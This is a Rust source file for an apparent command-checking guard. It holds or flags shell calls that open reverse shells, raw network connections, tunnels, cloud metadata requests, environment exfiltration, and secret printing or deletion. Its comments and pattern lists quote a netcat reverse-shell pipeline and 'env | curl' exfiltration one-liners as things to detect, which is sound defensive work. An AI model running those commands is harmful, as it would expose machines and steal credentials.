//! Other machines: shells that somebody else types into, doors that are opened to this machine, and secrets that are printed.
//!
//! Which files may be sent away is judged with the files. Here it is the programs that hand out a shell, a port or a secret as such.

#[cfg(test)]
mod tests;

use crate::case::Case;
use crate::invocation::{Invocation, Stream, Use};
use crate::packs::shape::{self, Programs, Tool, disarms, fits, free, has, held};
use crate::verdict::{Hold, Rule};

/// Holds shells for somebody else.
pub(crate) static REMOTE_SHELL: Rule = Rule {
    id: "network.remote-shell",
    hold: Hold::Deny,
    reason: "connects a shell on this machine to the network",
    safer: "",
};

/// Holds raw connections.
pub(crate) static RAW: Rule = Rule {
    id: "network.raw-connection",
    hold: Hold::Ask,
    reason: "sends something to another machine through a raw connection",
    safer: "use curl, so that it can be seen what goes where",
};

/// Holds tunnels.
pub(crate) static TUNNEL: Rule = Rule {
    id: "network.tunnel",
    hold: Hold::Ask,
    reason: "makes this machine reachable from the internet",
    safer: "",
};

/// Holds servers that show too much.
pub(crate) static SERVE: Rule = Rule {
    id: "network.serve-home",
    hold: Hold::Ask,
    reason: "shows the whole home directory or disk to whoever asks for it",
    safer: "serve a directory of the project",
};

/// Holds what lets somebody in.
pub(crate) static GRANT: Rule = Rule {
    id: "network.grant-access",
    hold: Hold::Ask,
    reason: "changes which keys open which machine",
    safer: "",
};

/// Holds what asks a cloud machine for its credentials.
pub(crate) static METADATA: Rule = Rule {
    id: "network.metadata",
    hold: Hold::Ask,
    reason: "asks the cloud for this machine's own credentials",
    safer: "",
};

/// Holds what sends the environment away.
pub(crate) static ENVIRONMENT: Rule = Rule {
    id: "network.send-environment",
    hold: Hold::Ask,
    reason: "sends the variables of the environment to another machine, with the keys and tokens among them",
    safer: "send the one variable that is needed, by its name",
};

/// Holds what prints secrets.
pub(crate) static SECRET_PRINT: Rule = Rule {
    id: "secret.print",
    hold: Hold::Ask,
    reason: "prints a password, a key or a token, which then is in the conversation",
    safer: "let the program that needs it read it by itself",
};

/// Holds what deletes secrets.
pub(crate) static SECRET_DELETE: Rule = Rule {
    id: "secret.delete",
    hold: Hold::Ask,
    reason: "deletes keys or passwords from where they are kept",
    safer: "",
};

/// The rules of this judge.
pub(crate) static RULES: &[&Rule] =
    &[&REMOTE_SHELL, &RAW, &TUNNEL, &SERVE, &GRANT, &METADATA, &ENVIRONMENT, &SECRET_PRINT, &SECRET_DELETE];

/// Judges what a call gives to the network, and which secrets it prints.
pub(crate) fn judge(call: &Invocation, case: &mut Case<'_>) {
    sockets(call, case);
    environment(call, case);
    shape::judge(PROGRAMS, call, case);
    if call.program().starts_with("python") {
        web_server(call, case);
    }
}

static PROGRAMS: &Programs = &[
    ("1password", &OP),
    ("age", &DECRYPTS),
    ("ansible-vault", &ANSIBLE_VAULT),
    ("aws-vault", &AWS_VAULT),
    ("bash", &SHELL),
    ("bore", &OPENS),
    ("bw", &BW),
    ("chamber", &CHAMBER),
    ("chisel", &OPENS),
    ("cloudflared", &CLOUDFLARED),
    ("curl", &REQUEST),
    ("dash", &SHELL),
    ("devtunnel", &OPENS),
    ("doppler", &DOPPLER),
    ("frpc", &OPENS),
    ("gopass", &PASS),
    ("gpg", &GPG),
    ("gpg2", &GPG),
    ("http", &REQUEST),
    ("infisical", &DOPPLER),
    ("keyring", &KEYRING),
    ("ksh", &SHELL),
    ("localtunnel", &OPENS),
    ("lpass", &PASS),
    ("lt", &LOCALTUNNEL),
    ("nc", &NETCAT),
    ("ncat", &NETCAT),
    ("netcat", &NETCAT),
    ("ngrok", &NGROK),
    ("op", &OP),
    ("pass", &PASS),
    ("secret-tool", &SECRET_TOOL),
    ("security", &SECURITY),
    ("sh", &SHELL),
    ("socat", &SOCAT),
    ("sops", &DECRYPTS),
    ("ssh-copy-id", &LETS_IN),
    ("ssh-keygen", &KEYGEN),
    ("tailscale", &TAILSCALE),
    ("wget", &REQUEST),
    ("wormhole", &WORMHOLE),
    ("zsh", &SHELL),
];

/// Bash's own sockets: `> /dev/tcp/HOST/PORT`.
fn sockets(call: &Invocation, case: &mut Case<'_>) {
    for (how, file) in &call.redirects {
        let Some(rest) =
            file.text().strip_prefix("/dev/tcp/").or_else(|| file.text().strip_prefix("/dev/udp/"))
        else {
            continue;
        };
        let is_local = fits("localhost/*|127.0.0.1/*|0.0.0.0/*|::1/*", rest);
        // Knocking at a port is everyday: `echo > /dev/tcp/db/5432`, `: < /dev/tcp/db/5432`.
        let sends_nothing =
            call.redirects.iter().any(|(how, file)| *how == Use::Read && file.is("/dev/null"));
        let only_knocks = *how == Use::Read
            || sends_nothing
            || fits("echo|printf|:|true|exec|timeout|", call.program()) && *how == Use::Write;
        if fits("sh|bash|zsh|dash|ksh|fish", call.program()) && *how != Use::Read {
            case.hold(&REMOTE_SHELL, file.to_string());
            return;
        }
        if !is_local && !only_knocks {
            case.hold(&RAW, file.to_string());
            return;
        }
    }
}

static SHELL: Tool = Tool::code(|call, read, case| {
    // `cat pipe | sh -i 2>&1 | nc HOST PORT > pipe`: nobody but the network is at the other end.
    let is_fed = matches!(call.stdin, Stream::Output | Stream::File(_) | Stream::Download);
    if is_fed && read.has_short('i') && read.operands.is_empty() {
        case.hold(&REMOTE_SHELL, call.shown());
    }
})
.taking("cO", &["rcfile", "init-file"]);

static NETCAT: Tool = Tool::code(|call, read, case| {
    let has_program = read.given.iter().any(|given| {
        if given.long {
            fits("exec|sh-exec|lua-exec", given.name)
        } else {
            matches!(given.name, "e" | "c") && given.value.is_some_and(|value| !value.starts_with('-'))
        }
    });
    if has_program {
        case.hold(&REMOTE_SHELL, call.shown());
    }
})
.taking("ecpwsqix", &["exec", "sh-exec", "lua-exec", "source", "port"]);

static SOCAT: Tool = Tool::code(|call, read, case| {
    let runs = |operand: &str| fits("EXEC:*|SYSTEM:*|SHELL:*", operand);
    let listens_or_connects = |operand: &str| fits("TCP*|UDP*|OPENSSL*|SSL*|SCTP*|VSOCK*", operand);
    let operands = || read.operands.iter().map(|operand| operand.text());
    if operands().any(runs) && operands().any(listens_or_connects) {
        case.hold(&REMOTE_SHELL, call.shown());
    }
});

static REQUEST: Tool = Tool::code(|call, read, case| {
    const ASKED: &str =
        "*169.254.169.254*|*metadata.google.internal*|*169.254.170.2*|*100.100.100.200*|*fd00:ec2::254*";
    if read.operands.iter().any(|url| fits(ASKED, url.text())) {
        case.hold(&METADATA, call.shown());
    }
})
.taking("AbcdDeEFHKmoQrtTuUwxXyYzC", &["header", "data", "output", "user", "request", "form"]);

static OPENS: Tool = Tool::new(&[held("", &TUNNEL)]).disarmed_by("-v|-V");
static NGROK: Tool = Tool::new(&[held("http|tcp|tls|start|tunnel|service", &TUNNEL)]);
static CLOUDFLARED: Tool = Tool::new(&[
    free("tunnel list|info|login|token|cleanup"),
    held("tunnel", &TUNNEL),
    held("", &TUNNEL).when("--url|--hello-world"),
])
.taking("", &["config", "url", "loglevel"]);
static LOCALTUNNEL: Tool = Tool::new(&[held("", &TUNNEL).when("-p|--port")]).taking("p", &["port"]);
static TAILSCALE: Tool = Tool::new(&[free("funnel|serve status"), held("funnel", &TUNNEL)]);
static WORMHOLE: Tool = Tool::new(&[held("send|tx|ssh", &RAW)]);
static LETS_IN: Tool = Tool::new(&[held("", &GRANT)]).disarmed_by("-n|-?");
static KEYGEN: Tool = Tool::code(|call, read, case| {
    // A waiting "y" is the answer to "overwrite?".
    let overwrites = matches!(&call.stdin, Stream::Text(text) if text.trim_start().starts_with(['y', 'Y']));
    let changes_passphrase = read.has_short('p');
    if overwrites || changes_passphrase && !read.has_short('?') {
        case.hold(&GRANT, call.shown());
    }
})
.taking("abCDEFfIjJKMmNnOPQRrSsTtVwYZz", &[]);

/// `env | curl -d @- HOST`, `printenv | nc HOST PORT`.
fn environment(call: &Invocation, case: &mut Case<'_>) {
    if call.stdin != Stream::Environment {
        return;
    }
    let sends = match call.program() {
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "http" | "https" | "xh" => true,
        // They send what they read only where they are told to.
        "curl" | "wget" | "gh" | "openssl" => {
            call.args().iter().any(|arg| fits("*@-|-|*=-|-T-|*/dev/stdin|s_client", arg.text()))
        }
        _ => false,
    };
    if sends {
        case.hold(&ENVIRONMENT, call.shown());
    }
}

/// `python -m http.server` where the home directory or the root is.
fn web_server(call: &Invocation, case: &mut Case<'_>) {
    let args = call.args();
    let Some(at) = args.iter().position(|arg| arg.is("-m")) else { return };
    if !args.get(at + 1).is_some_and(|module| fits("http.server|SimpleHTTPServer", module.text())) {
        return;
    }
    let named =
        args.windows(2).find(|pair| fits("-d|--directory", pair[0].text())).map(|pair| pair[1].text());
    let attached = args.iter().find_map(|arg| arg.text().strip_prefix("--directory="));
    let dir = named.or(attached).or(call.cwd.as_deref());
    let is_too_much =
        |dir: &str| dir == "/" || dir == "~" || Some(dir.trim_end_matches('/')) == case.world.home;
    if dir.is_some_and(is_too_much) {
        case.hold(&SERVE, call.shown());
    }
}

static GPG: Tool = Tool::new(&[
    held("", &SECRET_PRINT)
        .when("--export-secret-keys|--export-secret-subkeys|--export-secret-key")
        .unless("--export"),
    held("", &SECRET_DELETE).when("--delete-secret-keys|--delete-secret-and-public-key|--delete-secret-key"),
])
.taking("orus", &["output", "recipient", "local-user", "homedir", "passphrase"]);
static OP: Tool = Tool::new(&[
    held("read", &SECRET_PRINT),
    held("item|document get", &SECRET_PRINT),
    held("item|document|vault|user delete", &SECRET_DELETE),
])
.taking("", &["account", "vault", "session", "format"]);
static PASS: Tool = Tool::code(|call, read, case| {
    const VERBS: &str = "ls|list|find|search|insert|add|edit|generate|git|init|help|version|mv|cp|status|sync|otp|grep|audit|config|setup";
    let first = read.operands.first().map(|operand| operand.text());
    match first {
        None => {}
        Some("rm" | "remove" | "delete") => case.hold(&SECRET_DELETE, call.shown()),
        Some(verb) if fits(VERBS, verb) || disarms(read, "--help|--version") => {}
        Some(_) => case.hold(&SECRET_PRINT, call.shown()),
    }
});
static BW: Tool = Tool::new(&[
    held("get password|item|totp|notes|attachment", &SECRET_PRINT),
    held("export", &SECRET_PRINT),
    held("delete", &SECRET_DELETE),
]);
static DOPPLER: Tool = Tool::new(&[
    free("secrets folders|set"),
    held("secrets delete", &SECRET_DELETE),
    held("secrets|export", &SECRET_PRINT).unless("--only-names"),
])
.taking("pct", &["project", "config", "token", "env"]);
static CHAMBER: Tool = Tool::new(&[held("read|export|env", &SECRET_PRINT), held("delete", &SECRET_DELETE)]);
static AWS_VAULT: Tool = Tool::new(&[held("export", &SECRET_PRINT), held("remove|clear", &SECRET_DELETE)]);
static ANSIBLE_VAULT: Tool = Tool::new(&[held("view|decrypt", &SECRET_PRINT)]);
static DECRYPTS: Tool =
    Tool::new(&[held("decrypt", &SECRET_PRINT), held("", &SECRET_PRINT).when("-d|--decrypt")])
        .taking("oi", &["output", "identity"]);
static KEYRING: Tool = Tool::new(&[held("get", &SECRET_PRINT), held("del", &SECRET_DELETE)]);
static SECRET_TOOL: Tool = Tool::new(&[held("lookup|search", &SECRET_PRINT), held("clear", &SECRET_DELETE)]);
static SECURITY: Tool = Tool::code(|call, read, case| {
    let verb = read.operands.first().map_or("", |operand| operand.text());
    let shows = fits("find-generic-password|find-internet-password", verb) && has(read, "-w|-g");
    if shows || fits("dump-keychain|export", verb) {
        case.hold(&SECRET_PRINT, call.shown());
    } else if fits("delete-*", verb) {
        case.hold(&SECRET_DELETE, call.shown());
    } else if fits(
        "add-trusted-cert|remove-trusted-cert|set-keychain-settings|authorizationdb|set-key-partition-list",
        verb,
    ) {
        case.hold(&GRANT, call.shown());
    }
});
